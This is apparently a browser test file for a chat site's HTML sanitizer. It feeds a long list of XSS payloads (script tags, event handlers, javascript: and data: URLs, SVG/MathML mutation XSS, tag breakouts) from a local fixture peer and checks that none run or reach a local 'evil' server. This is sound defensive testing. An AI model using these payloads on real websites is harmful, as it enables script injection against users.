#!/usr/bin/env node
// tests/browser/xss.test.js - the sanitizer, proven in a browser (issue 11;
// MC-3, SEC-11).
//
// A hostile correspondent, tests/fixtures/peer_site.py "mallory", serves a
// private feed whose e-content is raw XSS vectors (VECTORS below: script,
// event handlers, javascript:/data:/vbscript: URLs in URL attributes, SVG
// and MathML, mutation XSS, <base>, <meta refresh>, CSS, comments and
// entities, breakouts ...) and sends alice a ticket; alice's ticket endpoint
// redeems it and fetches the feed through the real Apache (TR-10), so every
// vector goes listener -> fetch -> mf2 -> sanitizer -> store.  Then headless
// Chromium shows them on alice's conversation page (server-rendered) and,
// for a second batch that arrives while the page is open (mallory sends a
// new ticket, alice fetches again), through the live JSON rendered by
// public/indiechat.js.  Each is looked at twice: with the pages' real
// Content-Security-Policy, and with the CSP bypassed (Playwright's
// bypassCSP), so the sanitizer alone must hold and the CSP cannot hide a
// hole.  On every page:
// * no script runs: every vector calls window.__xss(id) (an exposed
//   function) or alert() (replaced by an init script, and page 'dialog'
//   events are counted too); a CSP violation counts as well;
// * no request leaves for another origin (page 'request' events; the
//   vectors point at http://evil.localhost:PORT, a local server that
//   records every hit);
// * each vector's harmless visible marker word is in its message;
// * what is in the DOM is allowed: no on* attribute, no style, no element
//   outside the allow-list, links only http(s) or mailto.
// The detectors are proven first: script injected into the same page must
// trip them (controls).  Handlers that need an event (mouseover, focus,
// click ...) get it: every element of every message is poked.
//
// Prints TAP lines like chat.test.js and ends with "xss: N passed, N failed".
// Environment: as chat.test.js.
'use strict';

const assert = require('assert');
const { spawn } = require('child_process');
const http = require('http');
const path = require('path');
const readline = require('readline');
const t = require('./chat.test.js');

const { comment, step, waitUntil, sleep } = t;
const PEER_SCRIPT = path.join(__dirname, '..', 'fixtures', 'peer_site.py');
const TOPIC = 'xss';

// --- the vectors ------------------------------------------------------------
// [id, html]: {E} is the foreign origin (http://evil.localhost:PORT), {M}
// the marker word that must be visible, {X} the call that must never run
// (__xss('id')).  The marker stays outside what the sanitizer drops whole.
const VECTORS = [
	['script', '<p>{M} <script>{X}</script></p>'],
	['script-src', '<script src="{E}/script-src"></script><p>{M}</p>'],
	['script-nested', '<scr<script>ipt>{X}</scr</script>ipt><p>{M}</p>'],
	['script-in-p-attr', '<p title="<script>{X}</script>">{M}</p>'],
	['img-onerror', '<img src=x onerror="{X}" alt="{M}">'],
	['img-slash', '<img/src=x/onerror={X}//>{M}'],
	['img-double-lt', '<<img src=x onerror="{X}">{M}'],
	['img-foreign-src', '<img src="{E}/img" alt="{M}">'],
	['img-srcset', '<img srcset="{E}/srcset 1x, {E}/srcset2 2x" alt="{M}">'],
	['picture-source', '<picture><source srcset="{E}/picture"><img src="{E}/picture-img" alt="{M}"></picture>'],
	['body-onload', '<body onload="{X}"><p>{M}</p></body>'],
	['onclick', '<p onclick="{X}">{M}</p>'],
	['onmouseover', '<b onmouseover="{X}" onmouseenter="{X}" onpointerover="{X}">{M}</b>'],
	['onfocus-autofocus', '<input autofocus onfocus="{X}"><p tabindex=0 onfocus="{X}" autofocus>{M}</p>'],
	['onfocusin', '<span tabindex=1 onfocusin="{X}" contenteditable>{M}</span>'],
	['onanimationstart', '<style>@keyframes ic{from{color:red}to{color:blue}}</style><p style="animation:ic 1s" onanimationstart="{X}" onanimationend="{X}">{M}</p>'],
	['ontransitionend', '<p style="transition:color 1ms" ontransitionrun="{X}">{M}</p>'],
	['ontoggle', '<details open ontoggle="{X}"><summary>{M}</summary>x</details>'],
	['onbegin-svg-animate', '<svg><animate onbegin="{X}" attributeName="x" dur="1s"></animate></svg><p>{M}</p>'],
	['svg-onload', '<svg onload="{X}"><circle r="1"/></svg><p>{M}</p>'],
	['svg-script', '<svg><script>{X}</script><script href="{E}/svg-script"></script></svg><p>{M}</p>'],
	['svg-xlink', '<svg><a xlink:href="javascript:{X}"><text x="0" y="10">click</text></a></svg><p>{M}</p>'],
	['svg-set', '<svg><a><set attributeName="href" to="javascript:{X}"/><text y="10">x</text></a></svg><p>{M}</p>'],
	['svg-use-data', '<svg><use href="data:image/svg+xml,&lt;svg id=%22x%22 xmlns=%22http://www.w3.org/2000/svg%22&gt;&lt;image href=%221%22 onerror=%22{X}%22/&gt;&lt;/svg&gt;#x"/></svg><p>{M}</p>'],
	['svg-foreignobject', '<svg><foreignObject><img src=x onerror="{X}"><iframe src="{E}/fo"></iframe></foreignObject></svg><p>{M}</p>'],
	['svg-style-mxss', '<svg><style><img src=x onerror="{X}"></style></svg><p>{M}</p>'],
	['svg-image', '<svg><image href="{E}/svg-image" onerror="{X}"/></svg><p>{M}</p>'],
	['math-mxss', '<math><mtext><table><mglyph><style><img src=x onerror="{X}"></style></mglyph></table></mtext></math><p>{M}</p>'],
	['math-href', '<math href="javascript:{X}"><mi xlink:href="javascript:{X}">m</mi></math><p>{M}</p>'],
	['math-maction', '<math><maction actiontype="statusline" xlink:href="javascript:{X}">m</maction></math><p>{M}</p>'],
	['form-math-mxss', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{X}"></style></mglyph></form></mtext></math></form><p>{M}</p>'],
	['select-template-mxss', '<select><template><style><img src=x onerror="{X}"></style></template></select><p>{M}</p>'],
	['noscript-breakout', '<noscript><p title="</noscript><img src=x onerror={X}>"></p></noscript><p>{M}</p>'],
	['noembed-breakout', '<noembed><img title="</noembed><img src=x onerror={X}>"></noembed><p>{M}</p>'],
	['iframe-breakout', '<iframe><img title="</iframe><img src=x onerror={X}>"></iframe><p>{M}</p>'],
	['textarea-breakout', '<textarea><img title="</textarea><img src=x onerror={X}>"></textarea><p>{M}</p>'],
	['title-breakout', '<title><img title="</title><img src=x onerror={X}>"></title><p>{M}</p>'],
	['xmp-breakout', '<xmp><img title="</xmp><img src=x onerror={X}>"></xmp><p>{M}</p>'],
	['style-breakout', '<style><img title="</style><img src=x onerror={X}>"></style><p>{M}</p>'],
	['attr-breakout-abbr', '<abbr title="&quot;&gt;&lt;img src=x onerror={X}&gt;" onmouseover="{X}">{M}</abbr>'],
	['attr-breakout-time', '<time datetime="&quot; onmouseover=&quot;{X}">{M}</time>'],
	['attr-breakout-ol', '<ol start="1&quot; onclick=&quot;{X}"><li>{M}</li></ol>'],
	['unquoted-attr', '<a href=https://example.com/ok onclick={X}>{M}</a>'],
	['a-javascript', '<a href="javascript:{X}">{M}</a>'],
	['a-javascript-case', '<a href="JaVaScRiPt:{X}">{M}</a>'],
	['a-javascript-entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{X}">{M}</a>'],
	['a-javascript-entities-noterm', '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58{X}">{M}</a>'],
	['a-javascript-hex-pad', '<a href="&#x0000006A;avascript:{X}">{M}</a>'],
	['a-javascript-colon-entity', '<a href="javascript&colon;{X}">{M}</a>'],
	['a-javascript-tab', '<a href="java&#x09;script:{X}">{M}</a>'],
	['a-javascript-newline', '<a href="java&#x0A;script:{X}">{M}</a>'],
	['a-javascript-lead-ctl', '<a href="&#x01; javascript:{X}">{M}</a>'],
	['a-javascript-lead-space', '<a href="  javascript:{X}">{M}</a>'],
	['a-javascript-nbsp', '<a href="&#xA0;javascript:{X}">{M}</a>'],
	['a-javascript-ls', '<a href="&#x2028;javascript:{X}">{M}</a>'],
	['a-javascript-url-escaped', '<a href="javascript%3A{X}">{M}</a>'],
	['a-javascript-rel-path', '<a href="/javascript:{X}">{M}</a>'],
	['a-data-html', '<a href="data:text/html,&lt;script&gt;{X}&lt;/script&gt;">{M}</a>'],
	['a-data-base64', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">{M}</a>'],
	['a-vbscript', '<a href="vbscript:msgbox(1)">{M}</a>'],
	['a-ping', '<a href="https://example.com/p" ping="{E}/ping" target="_top">{M}</a>'],
	['a-xlink', '<a xlink:href="javascript:{X}">{M}</a>'],
	['area-href', '<map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:{X}"></map><p>{M}</p>'],
	['iframe-srcdoc', '<iframe srcdoc="&lt;script&gt;parent.{X}&lt;/script&gt;"></iframe><p>{M}</p>'],
	['iframe-src-js', '<iframe src="javascript:parent.{X}"></iframe><p>{M}</p>'],
	['iframe-src-foreign', '<iframe src="{E}/iframe"></iframe><p>{M}</p>'],
	['frameset', '<p>{M}</p><frameset onload="{X}"><frame src="javascript:parent.{X}"></frameset>'],
	['object-data', '<object data="javascript:{X}"></object><object data="{E}/object" type="text/html"></object><p>{M}</p>'],
	['embed-src', '<embed src="javascript:{X}"><embed src="{E}/embed" type="text/html"><p>{M}</p>'],
	['applet', '<applet code="x" codebase="{E}/applet"></applet><p>{M}</p>'],
	['form-action', '<form action="javascript:{X}" method="post"><input type="submit" value="go"><button>{M}</button></form>'],
	['formaction', '<form id="f"></form><button form="f" formaction="javascript:{X}">{M}</button><input type="image" src="{E}/input-image" formaction="javascript:{X}">'],
	['isindex', '<isindex action="javascript:{X}" type="image" src="{E}/isindex" onerror="{X}"><p>{M}</p>'],
	['video-poster', '<video poster="{E}/poster" src="x" onerror="{X}"><source src="y" onerror="{X}"></video><p>{M}</p>'],
	['audio', '<audio src="x" onerror="{X}" autoplay></audio><p>{M}</p>'],
	['background-attr', '<table background="{E}/background"><tr><td background="javascript:{X}">{M}</td></tr></table>'],
	['body-background', '<body background="{E}/body-bg"><p>{M}</p>'],
	['base-href', '<base href="{E}/base/"><p><a href="relative">{M}</a></p>'],
	['base-js', '<base href="javascript:{X}//"><p>{M}</p>'],
	['meta-refresh', '<meta http-equiv="refresh" content="0;url=javascript:{X}"><meta http-equiv="refresh" content="1;url={E}/refresh"><p>{M}</p>'],
	['meta-csp', '<meta http-equiv="Content-Security-Policy" content="default-src *"><p>{M}</p>'],
	['link-stylesheet', '<link rel="stylesheet" href="{E}/css"><link rel="preload" as="script" href="{E}/preload"><link rel="import" href="{E}/import"><p>{M}</p>'],
	['link-prefetch', '<link rel="prefetch" href="{E}/prefetch"><link rel="dns-prefetch" href="{E}"><p>{M}</p>'],
	['style-import', '<style>@import url({E}/import.css); p{background:url({E}/style-bg)}</style><p>{M}</p>'],
	['style-attr-url', '<p style="background-image:url({E}/style-attr)">{M}</p>'],
	['style-attr-expression', '<p style="width:expression({X})">{M}</p>'],
	['style-attr-import-font', '<p style="font-family:x;src:url({E}/font)">{M}</p>'],
	['template', '<template><img src=x onerror="{X}"></template><p>{M}</p>'],
	['comment-close-early', '<!--><img src=x onerror="{X}">--><p>{M}</p>'],
	['comment-bang', '<!-- --!><img src=x onerror="{X}"> --><p>{M}</p>'],
	['comment-in-attr', '<!--<img src="--><img src=x onerror={X}//">--><p>{M}</p>'],
	['comment-conditional', '<!--[if]><script>{X}</script><![endif]--><p>{M}</p>'],
	['cdata', '<![CDATA[<img src=x onerror={X}>]]><p>{M}</p>'],
	['processing-instruction', '<?xml-stylesheet href="{E}/pi"?><p>{M}</p>'],
	['escaped-text', '<p>&lt;img src=x onerror=&quot;{X}&quot;&gt; {M}</p>'],
	['double-escaped', '<p>&amp;lt;script&amp;gt;{X}&amp;lt;/script&amp;gt; {M}</p>'],
	['marquee-onstart', '<marquee onstart="{X}">{M}</marquee>'],
	['keygen-select', '<keygen autofocus onfocus="{X}"><select autofocus onfocus="{X}"><option>o</option></select><p>{M}</p>'],
	['blockquote-cite', '<blockquote cite="javascript:{X}"><p>{M}</p></blockquote><q cite="data:text/html,x">q</q>'],
	['button-onclick', '<button onclick="{X}" type="submit">{M}</button>'],
	['div-onpointer', '<div onpointerenter="{X}" onpointerdown="{X}" onmousemove="{X}">{M}</div>'],
	['onerror-on-body-element', '<p><span onerror="{X}" onload="{X}">{M}</span></p>'],
	['id-clobber', '<p id="ic" data-base="{E}" data-page="conversation" name="ic">{M}</p><form id="compose" action="{E}/clobber"></form><a id="messages" name="messages" href="{E}/clobber2">z</a>'],
	['table-foster', '<table><a href="javascript:{X}">{M}</a><tr><td>c</td></tr></table>'],
	['nested-a', '<a href="https://example.com/1"><a href="javascript:{X}">{M}</a></a>'],
	['unclosed-attr', '<p title="x>y</p><p title=y onmouseover={X}">more</p><p>{M}</p>'],
	['null-byte', '<img src=x on\u0000error="{X}" alt="{M}">'],
	['utf7', '+ADw-script+AD4-{X}+ADw-/script+AD4- {M}'],
];

const X = (id) => `__xss('${id}')`;
const marker = (id, phase) => `Marker-${id}-${phase}`;
function vectorHTML(html, id, phase, evil) {
	return html.replace(/\{E\}/g, evil).replace(/\{M\}/g, marker(id, phase)).replace(/\{X\}/g, X(id + ':' + phase));
}

// --- the foreign origin: a server that records every hit ----------------------
function startEvil() {
	const hits = [];
	const srv = http.createServer((req, res) => {
		hits.push(`${req.method} ${req.headers.host}${req.url}`);
		res.writeHead(200, { 'Content-Type': 'text/html' });
		res.end('<script>try{top.__xss("evil-page")}catch(e){}</script>');
	});
	return new Promise((resolve) => srv.listen(0, () => resolve({ srv, hits, url: `http://evil.localhost:${srv.address().port}` })));
}

// --- mallory -------------------------------------------------------------------
function startPeer() {
	const proc = spawn('/usr/bin/python3', ['-B', PEER_SCRIPT, '--name', 'mallory', '--port', '0'],
		{ stdio: ['pipe', 'pipe', 'ignore'] });
	const rl = readline.createInterface({ input: proc.stdout });
	return new Promise((resolve, reject) => {
		const timer = setTimeout(() => reject(new Error('peer_site.py printed nothing in 20 s')), 20000);
		proc.on('exit', (code) => { clearTimeout(timer); reject(new Error(`peer_site.py exited (${code})`)); });
		rl.once('line', (line) => {
			clearTimeout(timer);
			const m = /^PORT (\d+)$/.exec(line);
			if (!m) return reject(new Error('peer_site.py: ' + line));
			const port = Number(m[1]);
			resolve({ proc, port, url: `http://mallory.localhost:${port}/` });
		});
	});
}

function control(peer, name, body) {
	const data = body === undefined ? null : Buffer.from(JSON.stringify(body));
	return new Promise((resolve, reject) => {
		const req = http.request({ host: '127.0.0.1', port: peer.port, path: '/_fixture/' + name,
			method: data ? 'POST' : 'GET',
			headers: { Host: `mallory.localhost:${peer.port}`, 'Content-Type': 'application/json' } }, (res) => {
			let s = '';
			res.setEncoding('utf8');
			res.on('data', (c) => { s += c; });
			res.on('end', () => {
				try { resolve(JSON.parse(s)); } catch (e) { reject(new Error(`${name}: ${res.statusCode} ${s.slice(0, 200)}`)); }
			});
		});
		req.on('error', reject);
		req.setTimeout(60000, () => req.destroy(new Error('timeout')));
		req.end(data);
	});
}

// Three vectors to an entry: the conversation page shows the newest
// IC_PAGE_MESSAGES (100) of each direction, and both batches must fit.
const PER_ENTRY = 3;
const ENTRIES = [];
for (let i = 0; i < VECTORS.length; i += PER_ENTRY) ENTRIES.push(VECTORS.slice(i, i + PER_ENTRY));

async function postBatch(peer, phase, evil) {
	for (let i = 0; i < ENTRIES.length; i++) {
		const html = ENTRIES[i].map(([id, h]) => vectorHTML(h, id, phase, evil)).join('\n');
		await control(peer, 'post', { topic: TOPIC, html, ping: false, uid: `urn:x-xss:${phase}:${i}` });
	}
}

// --- the detectors ----------------------------------------------------------------
// One watched page: script run (exposed __xss, alert & co., dialogs, CSP
// violations) and requests to any origin but the site's own.
async function watchedPage(ctx, site, label) {
	const page = t.watch(await ctx.newPage(), label);
	const own = new URL(site.base_url).origin;
	const w = { page, label, ran: [], foreign: [] };
	await page.exposeFunction('__xss', (what) => { w.ran.push(String(what)); });
	await page.addInitScript(() => {
		const hit = (what) => { try { window.__xss(what); } catch (e) { /* not exposed yet */ } };
		for (const f of ['alert', 'confirm', 'prompt', 'print']) {
			window[f] = function (m) { hit(f + ':' + m); };
		}
		document.addEventListener('securitypolicyviolation', (e) =>
			hit(`csp:${e.violatedDirective}:${e.blockedURI}:${e.sample || ''}`), true);
	});
	page.on('dialog', (d) => { w.ran.push('dialog:' + d.message()); });
	page.on('request', (r) => {
		let o;
		try { o = new URL(r.url()).origin; } catch (e) { o = 'unparsable'; }
		if (o !== own) w.foreign.push(`${r.resourceType()} ${r.url().slice(0, 120)}`);
	});
	return w;
}

// Give every handler its event: hover, pointer, focus, click (but on
// links, whose hrefs are checked instead: a click would leave the page),
// and time for load errors and animations.
async function poke(page) {
	await page.evaluate(async () => {
		const els = document.querySelectorAll('#messages li.message.in .text, #messages li.message.in .text *');
		for (const el of els) {
			for (const type of ['mouseover', 'mouseenter', 'mousemove', 'mousedown', 'mouseup',
				'pointerover', 'pointerenter', 'pointerdown', 'focusin', 'dblclick']) {
				el.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true }));
			}
			if (typeof el.focus === 'function') el.focus();
			if (!el.closest('a, form, button')) el.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
		}
	});
	await sleep(1500);
}

// What the DOM of the received messages holds, against the allow-list.
async function domProblems(page) {
	return page.evaluate(() => {
		const ok = new Set(['P', 'PRE', 'BLOCKQUOTE', 'UL', 'OL', 'LI', 'DL', 'DT', 'DD', 'H3', 'H4',
			'H5', 'H6', 'BR', 'HR', 'A', 'EM', 'STRONG', 'B', 'I', 'U', 'S', 'DEL', 'INS', 'SUB', 'SUP',
			'SMALL', 'CODE', 'KBD', 'SAMP', 'Q', 'CITE', 'SPAN', 'ABBR', 'TIME']);
		const attrs = new Set(['href', 'rel', 'title', 'datetime', 'cite', 'start']);
		const bad = [];
		for (const body of document.querySelectorAll('#messages li.message.in .text')) {
			for (const el of body.querySelectorAll('*')) {
				const tag = el.tagName;
				if (!ok.has(tag) || el.namespaceURI !== 'http://www.w3.org/1999/xhtml') bad.push('element ' + tag);
				for (const a of el.attributes) if (!attrs.has(a.name)) bad.push(`${tag} @${a.name}`);
				for (const u of ['href', 'cite']) {
					if (!el.hasAttribute(u)) continue;
					const p = new URL(el.getAttribute(u), document.baseURI).protocol;
					if (!['http:', 'https:', 'mailto:'].includes(p)) bad.push(`${tag} @${u}=${el.getAttribute(u).slice(0, 60)}`);
				}
			}
		}
		if (document.querySelectorAll('base').length || document.baseURI !== location.href) bad.push('a <base>: ' + document.baseURI);
		return bad;
	});
}

async function textsOf(page) {
	return page.$$eval('#messages li.message.in .text', (els) => els.map((e) => e.textContent));
}

// Everything wrong on @p w for @p phase; `evil` hits are global.
async function verdict(w, phase, evilHits) {
	const problems = [];
	const ran = w.ran.filter((x) => !x.startsWith('control'));
	if (ran.length) problems.push('script ran: ' + ran.join(' | '));
	if (w.foreign.length) problems.push('foreign requests: ' + w.foreign.join(' | '));
	if (evilHits.length) problems.push('the foreign origin was reached: ' + evilHits.join(' | '));
	const texts = (await textsOf(w.page)).join('\n');
	const missing = VECTORS.map(([id]) => marker(id, phase)).filter((m) => !texts.includes(m));
	if (missing.length) problems.push(`${missing.length} markers not shown: ${missing.join(', ')}`);
	const dom = await domProblems(w.page);
	if (dom.length) problems.push('not allowed in the DOM: ' + [...new Set(dom)].join(', '));
	return problems;
}

// --- the test ---------------------------------------------------------------------
async function main() {
	let py, peer, evil, browser, setupFailed = 0;
	const watchdog = setTimeout(() => {
		console.log('not ok - the xss browser test (stopped after 300 s)');
		console.log('xss: 0 passed, 1 failed');
		process.exit(1);
	}, Number(process.env.IC_BROWSER_DEADLINE || 300000));
	watchdog.unref();
	const started = Date.now();
	try {
		evil = await startEvil();
		peer = await startPeer();
		const s = await t.startSites(['--only', 'alice']);
		py = s.py;
		const alice = s.info.sites.alice;
		comment(`alice ${alice.url}  mallory ${peer.url}  foreign origin ${evil.url}  ${VECTORS.length} vectors`);
		const args = ['--disable-dev-shm-usage'];
		if (process.getuid && process.getuid() === 0) args.push('--no-sandbox');
		browser = await t.chromium.launch({ executablePath: process.env.IC_CHROMIUM || '/usr/bin/chromium',
			headless: !process.env.IC_BROWSER_HEADED, args });
		// Two sessions: the pages' real CSP, and the CSP bypassed (the
		// sanitizer alone).
		const sides = {};
		for (const [name, bypassCSP] of [['csp', false], ['nocsp', true]]) {
			const ctx = await browser.newContext({ bypassCSP, viewport: { width: 1024, height: 800 } });
			ctx.setDefaultTimeout(30000);
			sides[name] = { ctx, name };
		}
		let convURL = null;

		await step('mallory\'s feed of vectors reaches alice through her ticket endpoint and fetch (TR-10)', async () => {
			await postBatch(peer, 'page', evil.url);
			const sent = await control(peer, 'invite', { subject: alice.url, topic: TOPIC });
			assert.ok(sent.ok && [200, 201, 202].includes(sent.status), `mallory's ticket was not taken: ${JSON.stringify(sent)}`);
			for (const side of Object.values(sides)) {
				side.inbox = t.watch(await side.ctx.newPage(), `${side.name}-inbox`);
				await t.signIn(side.inbox, alice);
			}
			let got = [];
			const c = await waitUntil('alice has mallory\'s messages', async () => {
				const conv = await t.convWith(sides.csp.ctx, alice, peer);
				if (!conv) return null;
				const j = await t.api(sides.csp.ctx, alice, `/feed/api/with/${conv.id}`);
				got = j.messages.map((m) => m.uid);
				return j.messages.length >= ENTRIES.length ? conv : null;
			}, 30000, { interval: 1000 }).catch((e) => {
				const lost = ENTRIES.map((e, i) => `urn:x-xss:page:${i} (${e.map(([id]) => id).join(', ')})`)
					.filter((u) => !got.includes(u.split(' ')[0]));
				throw new Error(`${e.message}: ${got.length} stored, not stored: ${lost.join(' ')}`);
			});
			convURL = `${alice.base_url}/feed/with/${c.id}`;
			comment(`conversation ${c.id}, state ${c.state}`);
		}, { id: 'fetched' });

		await step('controls: injected script and a foreign load trip the detectors', async () => {
			for (const side of Object.values(sides)) {
				const w = await watchedPage(side.ctx, alice, `${side.name}-control`);
				await w.page.goto(convURL);
				await w.page.evaluate((src) => {
					const d = document.createElement('div');
					d.innerHTML = `<img src="x" onerror="__xss('control-inline')"><img src="${src}">`;
					document.getElementById('messages').appendChild(d);
					const s = document.createElement('script');
					s.textContent = "__xss('control-script')";
					document.body.appendChild(s);
				}, evil.url + '/control');
				await waitUntil(`${side.name}: the foreign load is seen`, () =>
					w.foreign.some((f) => f.includes('/control')) && evil.hits.some((h) => h.includes('/control')), 10000, { interval: 200 });
				if (side.name === 'nocsp') {
					await waitUntil('nocsp: inline handler and script run and are seen', () =>
						w.ran.includes('control-inline') && w.ran.includes('control-script'), 10000, { interval: 200 });
				} else {
					// The CSP stops both; the violation is what the detector sees.
					await waitUntil('csp: the blocked script shows as a violation', () =>
						w.ran.some((r) => r.startsWith('csp:script-src')), 10000, { interval: 200 });
					assert.ok(!w.ran.includes('control-inline'), 'the CSP let an inline handler run');
				}
				// The markers check and the DOM check fail on the page as it
				// is now, too.
				await w.page.evaluate(() => {
					const t0 = document.querySelector('#messages li.message.in .text');
					t0.innerHTML = '<span onclick="x">gone</span>';
				});
				const v = await verdict(Object.assign({}, w, { ran: [], foreign: [] }), 'page', []);
				assert.ok(v.some((p) => /markers not shown/.test(p)) && v.some((p) => /SPAN @onclick/.test(p)), JSON.stringify(v));
				comment(`${side.name} control saw: ${w.ran.join(' | ')}`);
				await w.page.close();
			}
			evil.hits.length = 0;
		}, { needs: ['fetched'], id: 'controls' });

		for (const side of Object.values(sides)) {
			await step(`conversation page (${side.name}): no script, no foreign request, every marker, only allowed markup`, async () => {
				const w = await watchedPage(side.ctx, alice, `${side.name}-page`);
				await w.page.goto(convURL);
				await poke(w.page);
				const v = await verdict(w, 'page', evil.hits);
				await t.shot(w.page, `xss-page-${side.name}`);
				side.page = w;
				assert.deepStrictEqual(v, []);
			}, { needs: ['controls'] });
		}

		await step('a second batch arrives while the pages are open: rendered live by indiechat.js', async () => {
			for (const side of Object.values(sides)) {
				side.live = await watchedPage(side.ctx, alice, `${side.name}-live`);
				await side.live.page.goto(convURL);
				await t.mark(side.live.page);
			}
			await postBatch(peer, 'live', evil.url);
			const sent = await control(peer, 'invite', { subject: alice.url, topic: TOPIC });
			assert.ok(sent.ok, `mallory's second ticket was not taken: ${JSON.stringify(sent)}`);
			for (const side of Object.values(sides)) {
				await waitUntil(`${side.name}: the live batch on the open page`, async () =>
					(await textsOf(side.live.page)).join('\n').includes(marker(VECTORS[VECTORS.length - 1][0], 'live')), 60000);
				await t.notReloaded(side.live.page);
			}
		}, { needs: ['controls'], id: 'live' });

		for (const side of Object.values(sides)) {
			await step(`live update (${side.name}): no script, no foreign request, every marker, only allowed markup`, async () => {
				const w = side.live;
				await poke(w.page);
				const v = await verdict(w, 'live', evil.hits);
				await t.shot(w.page, `xss-live-${side.name}`);
				await t.notReloaded(w.page);
				assert.deepStrictEqual(v, []);
			}, { needs: ['live'] });
		}
		comment(`vectors: ${VECTORS.map(([id]) => id).join(' ')}`);
	} catch (e) {
		console.log('not ok - xss browser test setup');
		comment(e && e.stack ? e.stack : e);
		setupFailed = 1;
	} finally {
		if (browser) await browser.close().catch(() => {});
		if (peer) { peer.proc.stdin.end(); peer.proc.kill('SIGTERM'); }
		if (evil) evil.srv.close();
		const code = py ? await t.stopSites(py) : 0;
		const { n, passed, failed } = t.tap();
		let f = failed + setupFailed;
		if (code) { console.log(`not ok ${n + 1} - the site's logs show no crash (sites.py exited ${code})`); f++; }
		console.log(`1..${n + (code ? 1 : 0)}`);
		console.log(`xss: ${passed} passed, ${f} failed (${((Date.now() - started) / 1000).toFixed(0)}s)`);
		process.exitCode = f ? 1 : 0;
	}
	clearTimeout(watchdog);
}

main();
